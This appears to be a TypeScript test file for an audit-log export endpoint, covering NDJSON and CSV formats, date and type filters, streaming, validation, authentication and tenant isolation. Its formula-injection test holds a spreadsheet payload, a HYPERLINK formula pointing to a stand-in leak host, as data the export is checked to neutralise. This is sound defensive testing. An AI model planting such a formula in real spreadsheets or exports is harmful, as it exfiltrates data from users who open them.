// GET /api/v1/audit/export (issue 13 §3; docs/api.md "Exports", docs/audit.md "Export"): every
// NDJSON line a v1 event, the CSV read back by a strict RFC 4180 reader, from/to/types filters,
// an export of several pages complete and in seq order, formula cells neutralised, bad parameters
// named, no token refused, and another tenant's rows never in the answer.
import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import type { AuditEvent } from "../../shared/audit.ts";
import { EXPORT_PAGE_SIZE, exportAuditEvents } from "../../workers/services/index.ts";
import { tenantDb } from "../../workers/store/index.ts";
import { newTenant, worker, type Tenant } from "../helpers.ts";
import { auditEvent, EPOCH_2001, readCsv, readNdjson, seedAudit, V1Event } from "./support.ts";

const YEAR_2001 = `from=2001-01-01T00:00:00Z&to=2002-01-01T00:00:00Z`;

async function body(res: Response): Promise<string> {
  const text = new TextDecoder().decode(await res.arrayBuffer());
  if (res.status !== 200) throw new Error(`${res.status} ${text.slice(0, 300)}`);
  return text;
}

async function error(res: Response): Promise<{ status: number; code: string; field: string; message: string }> {
  const json = (await res.json()) as { error: { code: string; field: string; message: string } };
  return { status: res.status, ...json.error };
}

describe("GET /api/v1/audit/export", () => {
  let a: Tenant;
  let b: Tenant;
  let seeded: AuditEvent[];

  beforeAll(async () => {
    [a, b] = await Promise.all([newTenant({ providers: false }), newTenant({ providers: false })]);
    const types = ["rule.created", "key.created", "call.refused"] as const;
    seeded = Array.from({ length: 3000 }, (_, i) =>
      auditEvent(a.tenantId, i + 1, {
        type: types[i % 3],
        data: { kind: "budget", name: `rule ${i + 1}`, limitNanoUsd: "1500", flags: ["x", "y"], on: true, n: -5 },
      }),
    );
    // One event whose data needs every kind of CSV quoting; one actor of each id-less kind.
    seeded[0] = auditEvent(a.tenantId, 1, { data: { name: 'a,"b"\r\nc', note: null } });
    seeded[1] = auditEvent(a.tenantId, 2, { type: "key.created", actor: { kind: "system" } });
    seeded[2] = auditEvent(a.tenantId, 3, { type: "call.refused", actor: { kind: "operator" }, requestId: "req_x" });
    await seedAudit(a.tenantId, seeded);
    await seedAudit(b.tenantId, [auditEvent(b.tenantId, 1, { data: { name: "tenant b's own" } })]);
  });

  it("answers every event as a v1 event, one a line, in seq order, as an attachment", async () => {
    const res = await a.api(`/audit/export?${YEAR_2001}`);
    const lines = readNdjson(await body(res));
    expect(res.headers.get("content-type")).toBe("application/x-ndjson");
    const day = new Date().toISOString().slice(0, 10).replaceAll("-", "");
    expect(res.headers.get("content-disposition")).toBe(
      `attachment; filename="outlay-audit-${a.tenantId}-${day}.ndjson"`,
    );
    expect(lines.filter((l) => !V1Event.safeParse(l).success)).toEqual([]);
    // More than three pages of 1,000, complete and in order, each exactly the event stored.
    expect(lines).toEqual(seeded);
  });

  it("answers CSV that reads back: the header, ISO times with milliseconds, the data's JSON text", async () => {
    const res = await a.api(`/audit/export?${YEAR_2001}&format=csv`);
    const rows = readCsv(await body(res));
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/filename="outlay-audit-[a-z2-7]{12}-\d{8}\.csv"$/);
    expect(rows[0]).toEqual(["seq", "at", "type", "actor_kind", "actor_id", "request_id", "subject", "data"]);
    expect(rows.length).toBe(seeded.length + 1);
    const back = rows.slice(1).map(([seq, at, type, kind, id, requestId, subject, data]) => ({
      v: 1,
      tenantId: a.tenantId,
      seq: Number(seq),
      at: Date.parse(at ?? ""),
      type,
      actor: id ? { kind, id } : { kind },
      requestId: requestId || null,
      subject: subject || null,
      data: JSON.parse(data ?? "") as unknown,
    }));
    expect(back).toEqual(seeded);
    expect(rows[1]?.[1]).toBe("2001-01-01T00:00:01.000Z");
    expect(rows[1]?.[7]).toBe(JSON.stringify({ name: 'a,"b"\r\nc', note: null }));
  });

  it("keeps [from, to) on the event's time and the chosen types", async () => {
    // Events 10 … 19: `from` is event 10's time (in), `to` event 20's (out), epoch ms or ISO.
    const from = EPOCH_2001 + 10_000;
    const iso = new Date(EPOCH_2001 + 20_000).toISOString();
    const range = readNdjson(await body(await a.api(`/audit/export?from=${from}&to=${iso}`))) as AuditEvent[];
    expect(range.map((e) => e.seq - 1_000_000)).toEqual([10, 11, 12, 13, 14, 15, 16, 17, 18, 19]);

    const one = readNdjson(await body(await a.api(`/audit/export?${YEAR_2001}&types=call.refused`))) as AuditEvent[];
    expect(one).toEqual(seeded.filter((e) => e.type === "call.refused"));
    expect(one.length).toBe(1000);

    const two = readNdjson(
      await body(await a.api(`/audit/export?${YEAR_2001}&types=key.created,call.refused`)),
    ) as AuditEvent[];
    expect(two).toEqual(seeded.filter((e) => e.type !== "rule.created"));

    const repeated = readNdjson(
      await body(await a.api(`/audit/export?${YEAR_2001}&types=key.created&types=call.refused`)),
    ) as AuditEvent[];
    expect(repeated).toEqual(two);
  });

  it("answers an empty range with nothing but the CSV header", async () => {
    const q = "from=2000-01-01&to=2000-06-01";
    expect(await body(await a.api(`/audit/export?${q}`))).toBe("");
    expect(await body(await a.api(`/audit/export?${q}&format=csv`))).toBe(
      "seq,at,type,actor_kind,actor_id,request_id,subject,data\r\n",
    );
  });

  it("writes the trail's real events too: a key created through the API, and its access event", async () => {
    const created = await a.api("/keys", { method: "POST", json: { name: "export check" } });
    const { id } = (await created.json()) as { id: string };
    const until = Date.now() + 10_000;
    let events: AuditEvent[] = [];
    while (Date.now() < until) {
      events = readNdjson(await body(await a.api(`/audit/export?types=key.created,access.api`))) as AuditEvent[];
      const access = events.some((e) => e.type === "access.api" && e.data.route === "/api/v1/audit/export");
      if (access && events.some((e) => e.type === "key.created" && e.subject === id)) break;
      await new Promise((r) => setTimeout(r, 100));
    }
    const key = events.find((e) => e.type === "key.created" && e.subject === id);
    expect(V1Event.parse(key)).toMatchObject({ actor: { kind: "admin" }, data: { name: "export check" } });
    expect(events.some((e) => e.type === "access.api" && e.data.route === "/api/v1/audit/export")).toBe(true);
  });

  it("prefixes formula cells with an apostrophe and leaves plain numbers alone", async () => {
    const c = await newTenant({ providers: false });
    const name = '=HYPERLINK("http://evil.test/?leak","click")';
    const subjects = [name, "+1+1", "@SUM(A1)", "-2+3", "\tx", "-5", "-1.25", "12"];
    await seedAudit(
      c.tenantId,
      subjects.map((subject, i) => auditEvent(c.tenantId, i + 1, { subject, data: { kind: "budget", name } })),
    );
    // A key named like a formula, created through the API: its name travels in the data cell.
    const created = await c.api("/keys", { method: "POST", json: { name } });
    expect(created.status).toBe(201);
    const rows = readCsv(await body(await c.api(`/audit/export?${YEAR_2001}&format=csv`)));
    expect(rows.slice(1).map((r) => r[6])).toEqual([
      `'${name}`,
      "'+1+1",
      "'@SUM(A1)",
      "'-2+3",
      "'\tx",
      "-5",
      "-1.25",
      "12",
    ]);
    // A JSON cell starts with "{", which no spreadsheet runs: it reads back unchanged.
    expect(rows.slice(1).map((r) => (JSON.parse(r[7] ?? "") as { name: string }).name)).toEqual(
      subjects.map(() => name),
    );
    // NDJSON is data, not a spreadsheet: the subject as stored.
    const lines = readNdjson(await body(await c.api(`/audit/export?${YEAR_2001}`))) as AuditEvent[];
    expect(lines.map((e) => e.subject)).toEqual(subjects);
  });

  it("streams: each read of the body is one page of rows, never the whole result at once", async () => {
    const db = tenantDb(env.DB, a.tenantId);
    const range = { from: EPOCH_2001, to: Date.UTC(2002, 0, 1) };
    const out = exportAuditEvents(db, { range, types: null, format: "ndjson" });
    const reader = out.body.getReader();
    const decoder = new TextDecoder();
    const pages: number[] = [];
    for (;;) {
      const next = await reader.read();
      if (next.done) break;
      pages.push(decoder.decode(next.value).split("\n").length - 1);
    }
    expect(pages).toEqual([EXPORT_PAGE_SIZE, EXPORT_PAGE_SIZE, EXPORT_PAGE_SIZE]);
  });

  it("refuses bad parameters with 400 naming the parameter", async () => {
    const cases: [string, string, RegExp][] = [
      ["from=yesterday", "from", /from/],
      ["to=2026-13-45T99:00", "to", /to/],
      ["from=2026-02-01&to=2026-02-01", "to", /after from/],
      ["from=2026-02-02&to=2026-02-01", "to", /after from/],
      ["types=call.refused,nope.nothing", "types", /"nope\.nothing" is not an audit event type/],
      [`types=${Array.from({ length: 51 }, () => "call.refused").join(",")}`, "types", /at most 50/],
      ["format=xml", "format", /ndjson or csv/],
    ];
    for (const [query, field, message] of cases) {
      const e = await error(await a.api(`/audit/export?${query}`));
      expect({ query, status: e.status, code: e.code, field: e.field }).toEqual({
        query,
        status: 400,
        code: "bad_request",
        field,
      });
      expect(e.message).toMatch(message);
    }
  });

  it("refuses a request without a valid token with 401", async () => {
    expect((await worker("/api/v1/audit/export")).status).toBe(401);
    const wrong = `${a.adminToken.slice(0, -4)}aaaa`;
    const res = await worker("/api/v1/audit/export?format=csv", { headers: { authorization: `Bearer ${wrong}` } });
    expect(res.status).toBe(401);
    expect(await res.text()).not.toContain("seq,at");
  });

  it("never answers another tenant's events, whatever the query", async () => {
    for (const query of ["", YEAR_2001, `${YEAR_2001}&types=rule.created,key.created,call.refused`, "format=csv"]) {
      const text = await body(await b.api(`/audit/export?${query}`));
      expect({ query, leaked: text.includes(a.tenantId) || text.includes("rule 2") }).toEqual({
        query,
        leaked: false,
      });
    }
    const own = readNdjson(await body(await b.api(`/audit/export?${YEAR_2001}`))) as AuditEvent[];
    expect(own.map((e) => [e.tenantId, e.data.name])).toEqual([[b.tenantId, "tenant b's own"]]);
  });
});
